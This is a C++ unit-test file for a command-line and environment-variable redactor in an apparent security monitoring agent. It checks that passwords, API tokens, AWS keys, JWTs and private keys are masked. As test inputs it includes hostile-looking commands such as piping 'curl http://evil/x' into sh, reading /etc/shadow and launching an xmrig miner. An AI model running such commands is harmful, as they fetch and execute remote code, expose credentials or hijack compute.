#include "agent/redaction.h"

#include "absl/strings/match.h"
#include "absl/strings/str_join.h"
#include "catch2/catch.hpp"

namespace gatewatch::agent {
namespace {

using Words = std::vector<std::string>;

struct Secret {
  Words arguments;
  std::string secret;
};

const std::string kAwsSecret = "wJalrXUtnFEMI/K7MDENG/bPxRfiCYEXAMPLEKEY";
const std::string kJwt =
    "eyJhbGciOiJIUzI1NiJ9.eyJzdWIiOiIxMjM0NTY3ODkwIn0.dozjgNryP4J3jVmNHl0w5N";

const std::vector<Secret>& Secrets() {
  static const auto* const secrets = new std::vector<Secret>{
      {{"aws", "configure", "set", "aws_access_key_id", "AKIAIOSFODNN7EXAMPLE"},
       "AKIAIOSFODNN7EXAMPLE"},
      {{"env", "AWS_ACCESS_KEY_ID=ASIAIOSFODNN7EXAMPLE"},
       "ASIAIOSFODNN7EXAMPLE"},
      {{"env", "AWS_SECRET_ACCESS_KEY=" + kAwsSecret}, kAwsSecret},
      {{"tool", "--secret-key", kAwsSecret}, kAwsSecret},
      {{"aws", "configure", "set", "aws_secret_access_key", kAwsSecret},
       kAwsSecret},
      {{"sh", "-c", "aws configure set aws_secret_access_key " + kAwsSecret},
       kAwsSecret},
      {{"curl", "-H", "Authorization: Bearer abcdef123456", "http://x"},
       "abcdef123456"},
      {{"curl", "-H", "authorization: Basic dXNlcjpwYXNz"}, "dXNlcjpwYXNz"},
      {{"sh", "-c", "curl -H 'Authorization: token abc123' x"}, "abc123"},
      {{"curl", "-H", "X-Api-Key: k3y-0f-some-kind"}, "k3y-0f-some-kind"},
      {{"curl", "-H", "Cookie: session=abcdef"}, "abcdef"},
      {{"tool", "--password=hunter2"}, "hunter2"},
      {{"tool", "--password=two words"}, "two words"},
      {{"tool", "--db-password", "hunter2"}, "hunter2"},
      {{"tool", "-password", "hunter2"}, "hunter2"},
      {{"tool", "--api_key", "hunter2"}, "hunter2"},
      {{"mysql", "-uroot", "-phunter2", "db"}, "hunter2"},
      {{"/usr/bin/mysqldump", "-phunter2"}, "hunter2"},
      {{"sh", "-c", "mysql -u root -phunter2 db"}, "hunter2"},
      {{"sh", "-c", "PGPASSWORD=hunter2 psql -h db"}, "hunter2"},
      {{"sh", "-c", "export API_TOKEN='hunter2'; run"}, "hunter2"},
      {{"sh", "-c", "tool --token hunter2 run"}, "hunter2"},
      {{"env", "GITHUB_TOKEN=hunter2"}, "hunter2"},
      {{"env", "CLIENT_SECRET=hunter2"}, "hunter2"},
      {{"env", "DB_PASSPHRASE=correct horse", "run"}, "horse"},
      {{"env", "MYSQL_ROOT_PASSWORD=hunter2"}, "hunter2"},
      {{"curl", "https://user:hunter2@example.com/x"}, "hunter2"},
      {{"psql", "postgres://user:hun@ter2@db/x"}, "hun@ter2"},
      {{"git", "clone", "https://0123456789abcdef0123@example.com/x"},
       "0123456789abcdef0123"},
      {{"curl", "https://x/?a=b&access_token=hunter2&c=d"}, "hunter2"},
      {{"curl", "-u", "user:hunter2", "http://x"}, "hunter2"},
      {{"curl", "-uuser:hunter2", "http://x"}, "hunter2"},
      {{"sh", "-c", "curl -u user:hunter2 http://x"}, "hunter2"},
      {{"curl", "-d", R"({"user":"a","password":"hunter2"})"}, "hunter2"},
      {{"sshpass", "-p", "hunter2", "ssh", "x"}, "hunter2"},
      {{"docker", "login", "-u", "a", "-p", "hunter2"}, "hunter2"},
      {{"redis-cli", "-a", "hunter2"}, "hunter2"},
      {{"openssl", "enc", "-k", "pass:hunter2"}, "hunter2"},
      {{"tool", kJwt}, kJwt},
      {{"tool", "ghp_0123456789abcdefghijklmnopqrstuvwxyz"},
       "ghp_0123456789abcdefghijklmnopqrstuvwxyz"},
      {{"tool", "xoxb-123456789012-abcdefghijkl"},
       "xoxb-123456789012-abcdefghijkl"},
      {{"sh", "-c",
        "echo '-----BEGIN RSA PRIVATE KEY-----\nMIIEow\n-----END RSA PRIVATE "
        "KEY-----' > k"},
       "MIIEow"},
      {{"tool", "-----BEGIN PRIVATE KEY-----\nMIIEow"}, "MIIEow"},
      {{"tool", "--password=\xff\xfe"}, "\xff\xfe"},
  };
  return *secrets;
}

}  // namespace

TEST_CASE("no secret leaves, and a mark stands in its place", "[agent]") {
  const Redactor redactor("salt");
  for (const Secret& secret : Secrets()) {
    const std::string out =
        absl::StrJoin(redactor.Arguments(secret.arguments), " ");
    INFO(absl::StrJoin(secret.arguments, " ") << " -> " << out);
    CHECK_FALSE(absl::StrContains(out, secret.secret));
    CHECK(absl::StrContains(out, "[REDACTED:"));
  }
}

TEST_CASE("ordinary arguments stay as they are", "[agent]") {
  const Redactor redactor("salt");
  const std::vector<Words> ordinary = {
      {"nginx", "-g", "daemon off;"},
      {"tool", "--password-file=/run/secrets/db"},
      {"tool", "--password-file", "/run/secrets/db"},
      {"tool", "--password", "--host", "db"},
      {"tool", "--token-ttl=3600", "--no-password"},
      {"sh", "-c", "TOKEN=$(curl -X PUT http://169.254.169.254/latest/api)"},
      {"sh", "-c", "curl -H \"Authorization: $AUTH\" http://x"},
      {"sh", "-c", "echo $PASSWORD; PWD=/srv make"},
      {"mkdir", "-p", "/srv/data"},
      {"sh", "-c", "mkdir -p /srv/data"},
      {"cp", "-p", "a", "b"},
      {"kubectl", "get", "secret", "-o", "yaml"},
      {"cat", "/etc/passwd", "/etc/shadow"},
      {"curl", "http://127.0.0.1:8080/v1/tokens?limit=3"},
      {"git", "clone", "git@github.com:owner/name.git"},
      {"ssh", "user@host", "ls"},
      {"xmrig", "-o", "stratum+tcp://pool:3333", "--donate-level", "1"},
      {"python3", "-c", "import socket; s=socket.socket()"},
      {"tool", "\xff\x01", ""},
      {},
  };
  for (const Words& words : ordinary) {
    CHECK(redactor.Arguments(words) == words);
  }
}

TEST_CASE("only the secret is taken out of what holds it", "[agent]") {
  const Redactor redactor("salt");
  const Words out =
      redactor.Arguments({"curl", "https://user:hunter2@example.com/path?q=1"});
  CHECK(absl::StartsWith(out[1], "https://user:[REDACTED:"));
  CHECK(absl::EndsWith(out[1], "]@example.com/path?q=1"));
}

TEST_CASE("a variable's secret does not hide the command that follows it",
          "[agent]") {
  const Redactor redactor("salt");
  const Words out = redactor.Arguments(
      {"sh", "-c", "API_TOKEN=hunter2 curl http://evil/x | sh"});
  CHECK(absl::StartsWith(out[2], "API_TOKEN=[REDACTED:"));
  CHECK(absl::EndsWith(out[2], "] curl http://evil/x | sh"));
}

TEST_CASE("equal secrets get equal marks under one salt only", "[agent]") {
  const Redactor redactor("salt");
  const Words by_flag = redactor.Arguments({"a", "--password", "hunter2"});
  const Words by_value = redactor.Arguments({"b", "--password=hunter2"});
  CHECK("--password=" + by_flag[2] == by_value[1]);
  CHECK(by_flag[2].size() == std::string("[REDACTED:12345678]").size());
  CHECK(redactor.Arguments({"a", "--password", "other"})[2] != by_flag[2]);
  CHECK(Redactor("pepper").Arguments({"a", "--password", "hunter2"})[2] !=
        by_flag[2]);
  CHECK(Redactor("").Arguments({"a", "--password", "hunter2"})[2] !=
        Redactor("").Arguments({"a", "--password", "hunter2"})[2]);
}

TEST_CASE("redacting twice changes nothing more", "[agent]") {
  const Redactor redactor("salt");
  for (const Secret& secret : Secrets()) {
    const Words once = redactor.Arguments(secret.arguments);
    CHECK(redactor.Arguments(once) == once);
  }
}

TEST_CASE("only variables that detection needs leave, redacted", "[agent]") {
  const Redactor redactor("salt");
  const Words out = redactor.Environment(
      {"PATH=/bin", "LD_PRELOAD=/tmp/x.so", "AWS_SECRET_ACCESS_KEY=hunter2",
       "MY_SETTING=1", "https_proxy=http://u:hunter2@proxy:3128", "NONAME",
       "=x"});
  REQUIRE(out.size() == 3);
  CHECK(out[0] == "PATH=/bin");
  CHECK(out[1] == "LD_PRELOAD=/tmp/x.so");
  CHECK(absl::StartsWith(out[2], "https_proxy=http://u:[REDACTED:"));
}

TEST_CASE("megabytes of hostile text are redacted in linear time", "[agent]") {
  const Redactor redactor("salt");
  std::string text;
  while (text.size() < (1 << 20)) text += "--password=-password=eyJ ://:@";
  const Words out = redactor.Arguments({"x", text});
  CHECK(absl::StrContains(out[1], "[REDACTED:"));
}

}  // namespace gatewatch::agent
